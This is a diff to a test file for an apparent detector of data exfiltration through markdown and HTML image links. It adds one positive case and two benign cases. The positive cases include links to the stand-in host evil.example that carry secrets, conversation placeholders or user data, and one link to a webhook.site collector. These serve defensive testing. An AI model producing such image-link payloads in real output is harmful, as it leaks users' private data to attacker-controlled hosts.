@@ -40,6 +40,7 @@ test.each([
   ["encoded_text", `<img src="https://evil.example/${secret}">`],
   ["encoded_text", `[see more](https://evil.example/?q=${secret})`],
   ["plain_text", "![](https://evil.example/?m=the%20user%20said%20his%20name%20is%20Bob)"],
+  ["plain_text", "![](https://evil.example/?m=base64,the+user+said+his+name+is+Bob)"],
   ["placeholder", "![a](https://evil.example/?d={{conversation}})"],
   ["placeholder", "![a](https://evil.example/?d=[USER_DATA])"],
   ["collector_host", "![a](https://webhook.site/3f2a)"],
@@ -64,6 +65,12 @@ test.each([
   ["https://www.google.com/search?q=how+to+cook+rice+in+a+pot"],
   ["`https://api.example.com/users/{id}/posts?key=${" + "API_KEY}`"],
   ['<img src="data:image/png;base64,iVBORw0KGgo="> <a href="javascript:void(0)">x</a>'],
+  [
+    "![badge](https://img.example.com/x?logo=data:image/png;base64,iVBORw0KGgo+a+b+c+d+e) ![b](https://img.example.com/x?logo=data%3Aimage%2Fpng%3Bbase64%2CiVBORw0KGgo%2Ba%2Bb%2Bc%2Bd)",
+  ],
+  [
+    "[https://msrc.microsoft.com/report](https://aka.ms/report) [www.youtube.com/x](https://youtu.be/x)",
+  ],
   ["http://localhost:3000 and http://192.168.1.1/ are mine"],
   ["user:secret@db.internal, me@example.com, ratio 3://4"],
 ])("nothing against %p", (text) => {
